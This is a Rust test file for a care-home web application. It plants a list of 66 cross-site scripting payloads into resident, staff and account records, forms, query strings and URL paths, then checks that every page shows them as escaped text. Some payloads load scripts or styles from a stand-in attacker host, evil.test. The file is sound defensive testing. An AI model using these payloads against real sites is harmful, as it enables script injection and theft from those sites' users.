//! Text that wants to be a program is shown as text, whoever typed it and on whatever page (WB-1).

#![cfg(test)]

use std::collections::BTreeSet;

use actix_web::http::Method;
use kinbridge::domain::access::{EditStaff, ManagePeople, Role, Scope};
use kinbridge::domain::accounts::{self, NewAccount};
use kinbridge::domain::residents::{self, ResidentFacts};
use kinbridge::domain::staff::{self, StaffDetails};
use kinbridge::kit::email_address::EmailAddress;
use kinbridge::kit::ids::ResidentId;
use kinbridge::links;
use kinbridge::web::routes::{self, Who};

use super::html;
use crate::support::vendors::nhs;
use crate::support::{Page, TestApp, Visitor};
use crate::two_organisations::address;
use crate::two_organisations::seed::{self, Org};

/// What every payload tries to run.
const MARK: &str = "xss9";

/// Each tries to leave the place that it is put in.
const PAYLOADS: [&str; 66] = [
    "<script>xss9()</script>",
    "\"><script>xss9()</script>",
    "'><script>xss9()</script>",
    "</title><script>xss9()</script>",
    "</textarea><script>xss9()</script>",
    "</option></select><script>xss9()</script>",
    "</style><script>xss9()</script>",
    "</script><script>xss9()</script>",
    "--><script>xss9()</script>",
    "]]><script>xss9()</script>",
    "<ScRiPt>xss9()</sCrIpT>",
    "<script/xss9>xss9()</script>",
    "<script\n>xss9()</script>",
    "<script src=//evil.test/xss9.js></script>",
    "<<script>xss9()//<</script>",
    "<scr<script>ipt>xss9()</scr</script>ipt>",
    "<img src=x onerror=xss9()>",
    "<img src=x onerror=xss9()//",
    "<img/src=x/onerror=xss9()>",
    "<img src=`x` onerror=xss9()>",
    "<img src=\"x\" onerror=\"xss9()\">",
    "<svg onload=xss9()>",
    "<svg/onload=xss9()>",
    "<svg><script>xss9()</script></svg>",
    "<svg><animate onbegin=xss9() attributeName=x>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=xss9()>",
    "<body onload=xss9()>",
    "<iframe src=javascript:xss9()></iframe>",
    "<iframe srcdoc=\"<script>xss9()</script>\">",
    "<object data=javascript:xss9()>",
    "<embed src=javascript:xss9()>",
    "<a href=javascript:xss9()>x</a>",
    "<a href=\"jav&#x09;ascript:xss9()\">x</a>",
    "<form action=javascript:xss9()><button>x",
    "<button formaction=javascript:xss9()>x",
    "<input autofocus onfocus=xss9()>",
    "<details open ontoggle=xss9()>",
    "<video><source onerror=xss9()>",
    "<audio src onerror=xss9()>",
    "<marquee onstart=xss9()>",
    "<meta http-equiv=refresh content=0;url=javascript:xss9()>",
    "<link rel=stylesheet href=//evil.test/xss9.css>",
    "<base href=//evil.test/xss9/>",
    "<style>@import'//evil.test/xss9';</style>",
    "<div style=background:url(javascript:xss9())>",
    "<template><script>xss9()</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=xss9()>\">",
    "\" onmouseover=\"xss9()",
    "' onmouseover='xss9()",
    "x onmouseover=xss9()",
    "\" autofocus onfocus=xss9() x=\"",
    "\" style=\"behavior:url(xss9)",
    "`-xss9()-`",
    "';xss9();//",
    "\";xss9();//",
    "\\\";xss9();//",
    "javascript:xss9()",
    "JaVaScRiPt:xss9()",
    "data:text/html,<script>xss9()</script>",
    "&lt;script&gt;xss9()&lt;/script&gt;",
    "&#60;script&#62;xss9()&#60;/script&#62;",
    "%3Cscript%3Exss9()%3C/script%3E",
    "\\u003cscript\\u003exss9()\\u003c/script\\u003e",
    "{{xss9()}}{% xss9 %}",
    "${xss9()}#{xss9()}",
    "＜script＞xss9()＜/script＞",
];

fn payload(n: usize) -> String {
    PAYLOADS[n % PAYLOADS.len()].to_owned()
}

/// Puts the payloads into every text that the domain keeps of people, places and accounts.
fn plant(app: &TestApp, org: &Org) -> Vec<ResidentId> {
    let mut residents = Vec::new();
    for n in (0..PAYLOADS.len()).step_by(6) {
        let facts = ResidentFacts {
            home: org.home,
            zone: Some(org.zone),
            room: payload(n),
            first_name: payload(n + 1),
            last_name: payload(n + 2),
            preferred_name: payload(n + 3),
            date_of_birth: None,
            nhs_number: nhs(300 + u32::try_from(n).unwrap()),
            resident_type: payload(n + 4),
            care_status: payload(n + 5),
        };
        let details = StaffDetails {
            home: Some(org.home),
            first_name: payload(n),
            last_name: payload(n + 1),
            email: format!("worker{n}@example.org"),
            job_title: payload(n + 2),
        };
        let new = NewAccount {
            email: EmailAddress::parse(&format!("member{n}@example.org")).unwrap(),
            name: payload(n + 3),
        };
        residents.push(app.write(|tx| {
            staff::add(tx, &Scope::<EditStaff>::for_the_portal(org.id), &details)?;
            accounts::add_member(tx, &Scope::<ManagePeople>::for_the_portal(org.id), &new, Role::Staff)?;
            residents::add(tx, &Scope::for_the_portal(org.id), &facts)
        }));
    }
    residents
}

/// Sends forms as a person would, a payload in each text; what comes back is a page with it or a refusal of it.
async fn by_form(visitor: &Visitor<'_>, org: &Org, n: usize) -> Vec<Page> {
    let at = |k: usize| payload(n + k);
    let place = format!("{}-{}", org.home, org.zone);
    let home = org.home.to_string();
    let (a, b, c) = (at(0), at(1), at(2));
    let version = "1";
    let forms: Vec<(String, Vec<(&str, &str)>)> = vec![
        (
            links::residents(org.id),
            vec![
                ("first_name", &a),
                ("last_name", &b),
                ("preferred_name", &c),
                ("born_day", &a),
                ("born_month", "x"),
                ("born_year", &b),
                ("nhs_number", &c),
                ("place", &place),
                ("room", &a),
                ("resident_type", &b),
                ("care_status", &c),
            ],
        ),
        (
            links::residents(org.id),
            vec![("first_name", &a), ("last_name", &b), ("place", &place), ("room", &c)],
        ),
        (links::staff(org.id), vec![("first_name", &a), ("last_name", &b), ("email", &c), ("job_title", &a)]),
        (links::staff(org.id), vec![("first_name", &a), ("last_name", &b), ("job_title", &c)]),
        (links::places(org.id), vec![("name", &a)]),
        (links::places(org.id), vec![("name", &b), ("home", &home)]),
        (links::place(org.id, org.zone), vec![("name", &c)]),
        (links::settings_people(org.id), vec![("name", &a), ("email", &b), ("role", &c)]),
        (
            links::settings_people(org.id),
            vec![("name", &a), ("email", "some@example.org"), ("role", "staff")],
        ),
        (
            links::settings(org.id),
            vec![
                ("name", &a),
                ("kind", "company"),
                ("time_zone", "Europe/London"),
                ("guard_percent", "10"),
                ("guard_people", "5"),
            ],
        ),
        (links::settings(org.id), vec![("name", &a), ("kind", &b), ("time_zone", &c), ("guard_percent", &a)]),
        (links::archive_resident(org.id, org.resident), vec![("because", &a), ("version", version)]),
        (links::nourish_act(org.id, "tokens"), vec![("label", &b)]),
        ("/confirm".into(), vec![("password", &a), ("next", &b)]),
        ("/account/password".into(), vec![("current_password", &a), ("new_password", &b)]),
        (
            "/sign-in".into(),
            vec![("email", &a), ("password", &b), ("next", &c), ("kept", &a), ("kept_for", &b)],
        ),
    ];
    let mut pages = Vec::new();
    for (path, fields) in forms {
        let page = visitor.post(&path, &fields).await;
        let to = page.location().to_owned();
        pages.push(page);
        if to.starts_with('/') {
            pages.push(visitor.get(&to).await);
        }
    }
    pages
}

#[actix_web::test]
async fn text_that_wants_to_run_is_text_on_every_page() {
    let (mut app, org, _) = seed::two().await;
    std::sync::Arc::make_mut(&mut app.services.config).demo = true;
    let planted = plant(&app, &org);
    let vendor = seed::vendor_sends(&app, &org, &PAYLOADS);
    let mut wrong = BTreeSet::new();
    let mut seen: BTreeSet<&str> = BTreeSet::new();
    let mut pages = 0;
    let mut look = |path: &str, page: &Page| {
        pages += 1;
        assert!(page.status < 500, "{path}: {}", page.status);
        if page.header("content-type").is_some_and(|kind| kind.starts_with("text/html")) {
            wrong.extend(
                html::escaped_from(&page.body, MARK).into_iter().map(|what| format!("{path}: {what}")),
            );
            let text = page.text();
            seen.extend(PAYLOADS.into_iter().filter(|payload| text.contains(&payload.replace('\n', " "))));
        }
    };
    let mary = app.new_visitor(&app.cast.super_manager);
    for n in (0..PAYLOADS.len()).step_by(3) {
        for page in by_form(&mary, &org, n).await {
            look("a form", &page);
        }
    }
    let visitors =
        [("super", mary), ("staff", app.as_staff()), ("rep", app.as_rep()), ("out", app.signed_out())];
    for (who, visitor) in &visitors {
        for line in
            routes::table().into_iter().filter(|line| line.method == Method::GET && line.who != Who::Machine)
        {
            let path = address(line.path, &org.numbers).unwrap_or_else(|| line.path.to_owned());
            look(&format!("{who} {path}"), &visitor.get(&path).await);
            if *who != "super" {
                continue;
            }
            for resident in planted.iter().filter(|_| line.path.contains("{resident}")) {
                let path = path.replace(&org.resident.to_string(), &resident.to_string());
                look(&path, &visitor.get(&path).await);
            }
            for run in vendor.iter().filter(|_| line.path.contains("{run}")) {
                let mut numbers = org.numbers.clone();
                numbers.insert("run", *run);
                let path = address(line.path, &numbers).unwrap();
                look(&path, &visitor.get(&path).await);
            }
        }
    }
    let (_, mary) = &visitors[0];
    for line in
        routes::table().into_iter().filter(|line| line.method == Method::GET && line.who != Who::Machine)
    {
        let path = address(line.path, &org.numbers).unwrap_or_else(|| line.path.to_owned());
        for (n, text) in PAYLOADS.iter().enumerate().step_by(7) {
            let fields =
                super::TEXTS.map(|name| format!("{name}={}", links::encode(PAYLOADS[(n + name.len()) % 66])));
            look(&path, &mary.get(&format!("{path}?{}", fields.join("&"))).await);
            // In the address itself.
            look(&path, &mary.get(&format!("{path}/{}", links::encode(text))).await);
        }
    }
    assert_eq!(wrong, BTreeSet::new());
    let unseen: Vec<_> = PAYLOADS.iter().filter(|payload| !seen.contains(*payload)).collect();
    assert!(unseen.is_empty(), "never shown, so not tested: {unseen:?}");
    println!("{} payloads, all of them shown as text, on {pages} answers", PAYLOADS.len());
}
